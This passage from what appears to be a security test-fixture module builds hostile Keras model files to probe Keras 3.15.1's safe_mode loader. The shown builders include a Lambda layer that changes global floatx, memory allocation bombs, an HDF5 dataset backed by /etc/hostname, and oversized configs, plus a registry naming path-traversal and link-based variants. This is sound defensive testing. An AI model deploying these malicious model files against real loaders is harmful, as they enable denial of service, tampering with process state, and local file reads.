    """model_config of the clean model as tf_keras writes it (no "module" keys on layers, list-form nodes)."""
    def initializer(name: str) -> dict:
        config = {"seed": None} if name == "GlorotUniform" else {}
        return {"module": "keras.initializers", "class_name": name, "config": config, "registered_name": None}

    layers = [
        {"class_name": "InputLayer",
         "config": {"batch_input_shape": [None, 16, 16, 3], "dtype": "float32", "sparse": False, "ragged": False,
                    "name": "image", "optional": False},
         "name": "image", "inbound_nodes": []},
        {"class_name": "Conv2D",
         "config": {"name": "conv", "trainable": True, "dtype": "float32", "filters": 4, "kernel_size": [3, 3],
                    "strides": [1, 1], "padding": "valid", "data_format": "channels_last", "dilation_rate": [1, 1],
                    "groups": 1, "activation": "relu", "use_bias": True,
                    "kernel_initializer": initializer("GlorotUniform"), "bias_initializer": initializer("Zeros"),
                    "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
                    "kernel_constraint": None, "bias_constraint": None},
         "name": "conv", "inbound_nodes": [[["image", 0, 0, {}]]]},
        {"class_name": "GlobalAveragePooling2D",
         "config": {"name": "pool", "trainable": True, "dtype": "float32", "data_format": "channels_last",
                    "keepdims": False},
         "name": "pool", "inbound_nodes": [[["conv", 0, 0, {}]]]},
        {"class_name": "Dense",
         "config": {"name": "logits", "trainable": True, "dtype": "float32", "units": 2, "activation": "linear",
                    "use_bias": True, "kernel_initializer": initializer("GlorotUniform"),
                    "bias_initializer": initializer("Zeros"), "kernel_regularizer": None, "bias_regularizer": None,
                    "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None},
         "name": "logits", "inbound_nodes": [[["pool", 0, 0, {}]]]},
    ]
    return {"class_name": "Functional",
            "config": {"name": "tiny", "trainable": True, "layers": layers, "input_layers": [["image", 0, 0]],
                       "output_layers": [["logits", 0, 0]]}}


_ASCII = h5py.string_dtype("ascii")


def _names(values: list[str]) -> np.ndarray:
    """An attribute as tf_keras writes name lists: variable-length ASCII strings, or float64 when empty."""
    return np.array([v.encode() for v in values], dtype=_ASCII) if values else np.array([], dtype="<f8")


def _write_keras2(path: Path, config: dict | None = None,
                  tweak: Callable[[h5py.File], None] | None = None) -> Path:
    """A Keras 2 .h5 model: root attrs backend, keras_version, model_config; group model_weights."""
    config = _keras2_config() if config is None else config
    values = _values()
    with h5py.File(path, "w") as h5:
        h5.attrs["backend"] = "tensorflow"
        h5.attrs["keras_version"] = TF_KERAS_VERSION
        h5.attrs.create("model_config", json.dumps(config).encode(), dtype=_ASCII)
        weights = h5.create_group("model_weights")
        weights.attrs.create("backend", b"tensorflow", dtype=_ASCII)
        weights.attrs.create("keras_version", TF_KERAS_VERSION.encode(), dtype=_ASCII)
        weights.attrs["layer_names"] = _names(["image", "conv", "pool", "logits"])
        for layer in ("image", "conv", "pool", "logits", "top_level_model_weights"):
            names = [f"{layer}/kernel:0", f"{layer}/bias:0"] if layer in ("conv", "logits") else []
            group = weights.create_group(layer)
            group.attrs["weight_names"] = _names(names)
            for name in names:
                group[name] = values[name.split(":")[0]]
        if tweak is not None:
            tweak(h5)
    return path


def h5_lambda_setter(folder: Path, marker: Path) -> Path:
    """Process state through the legacy loader: a Keras 2 .h5 whose model_config has a Lambda calling
    `keras.config.set_floatx("float16")`.

    Keras 3's legacy_h5_format hands the Lambda's config to `Lambda.from_config`, which resolves `function` with
    the same `deserialize_keras_object` as a .keras file, and functional_from_config accepts a dict-form node
    ({"args": [], "kwargs": {"inputs": "float16"}}) in a Keras 2 config too. (The Keras 2 form tf_keras writes for
    a named function, "function": "set_floatx" with "function_type": "function", resolves to nothing in Keras 3.)
    Keras 3.15.1, safe_mode=True: the model loads and floatx is float16 for the rest of the process.
    """
    config = _keras2_config()
    config["config"]["layers"].insert(1, {
        "class_name": "Lambda",
        "config": {"name": "preprocess", "trainable": True, "dtype": "float32",
                   "function": reference("keras.config", "set_floatx"), "function_type": "function",
                   "module": "keras.config", "output_shape": None, "output_shape_type": "raw",
                   "output_shape_module": None, "arguments": {}},
        "name": "preprocess", "inbound_nodes": [{"args": [], "kwargs": {"inputs": "float16"}}]})
    return _write_keras2(Path(folder) / "h5_lambda_setter.h5", config)


def h5_dense_bomb(folder: Path, marker: Path) -> Path:
    """Allocation bomb in a Keras 2 config: the Dense layer has 2**28 units (a 4 GiB kernel).

    Keras 3.15.1, safe_mode=True: as `dense_bomb` (SIGABRT under a 6 GiB limit; ResourceExhaustedError at 8.8 GiB
    resident under 12 GiB).
    """
    config = _keras2_config()
    config["config"]["layers"][3]["config"]["units"] = BOMB_UNITS
    return _write_keras2(Path(folder) / "h5_dense_bomb.h5", config)


def h5_declared_shape_bomb(folder: Path, marker: Path) -> Path:
    """Allocation bomb in HDF5: `model_weights/logits/logits/kernel:0` declares (2**30,) float32, 4 GiB, unwritten.

    The legacy loader reads every weight of a layer with `np.asarray` before checking shapes; like
    `declared_shape_bomb`, exactly 4 GiB passes Keras 3.15.1's guard. Keras 3.15.1, safe_mode=True: reads all
    4 GiB (4.6 GiB resident), then raises "Shape mismatch in layer #1 (named logits)".
    """
    return _write_keras2(Path(folder) / "h5_declared_shape_bomb.h5",
                         tweak=lambda h5: _declare_huge(h5["model_weights/logits/logits"], "kernel:0"))


def h5_external_storage(folder: Path, marker: Path) -> Path:
    """HDF5 external storage in a Keras 2 file: `model_weights/logits/logits/bias:0` keeps its data in /etc/hostname.

    Keras 3.15.1, safe_mode=True: refused ("Not allowed: H5 file with external Dataset").
    """
    return _write_keras2(Path(folder) / "h5_external_storage.h5",
                         tweak=lambda h5: _external_storage(h5["model_weights/logits/logits"], "bias:0", (2,)))


def h5_oversized_config(folder: Path, marker: Path) -> Path:
    """Oversized attribute: a model_config attribute of about 20 MiB (the model's name is huge), valid JSON.

    Keras 3.15.1, safe_mode=True: reads it and loads the model, whose name is a 20 MiB string.
    """
    config = _keras2_config()
    config["config"]["name"] = "tiny" + "_" * (OVERSIZED_CONFIG_BYTES - len(json.dumps(config)))
    return _write_keras2(Path(folder) / "h5_oversized_config.h5", config)


# ---------------------------------------------------------------------------------------------------------------

BUILDERS: dict[str, Callable[[Path, Path], Path]] = {
    "lambda_tfsm": lambda_tfsm,
    "tfsm_layer": tfsm_layer,
    "setter_floatx": setter_floatx,
    "setter_epsilon": setter_epsilon,
    "setter_image_data_format": setter_image_data_format,
    "setter_backend": setter_backend,
    "setter_seed": setter_seed,
    "dense_bomb": dense_bomb,
    "declared_shape_bomb": declared_shape_bomb,
    "config_deflate_bomb": config_deflate_bomb,
    "overlapping_entries": overlapping_entries,
    "path_traversal": path_traversal,
    "oversized_config": oversized_config,
    "unknown_module": unknown_module,
    "custom_registered": custom_registered,
    "lookup_vocabulary_path": lookup_vocabulary_path,
    "hdf5_external_storage": hdf5_external_storage,
    "hdf5_soft_link": hdf5_soft_link,
    "hdf5_external_link": hdf5_external_link,
    "hdf5_virtual_dataset": hdf5_virtual_dataset,
    "h5_lambda_setter": h5_lambda_setter,
    "h5_dense_bomb": h5_dense_bomb,
    "h5_declared_shape_bomb": h5_declared_shape_bomb,
    "h5_external_storage": h5_external_storage,
    "h5_oversized_config": h5_oversized_config,
}


def build_all(folder: Path, marker: Path) -> dict[str, Path]:
    """Every hostile file, by name, written into `folder`. Files that would run code write `marker` when they do."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    return {name: build(folder, Path(marker)) for name, build in BUILDERS.items()}
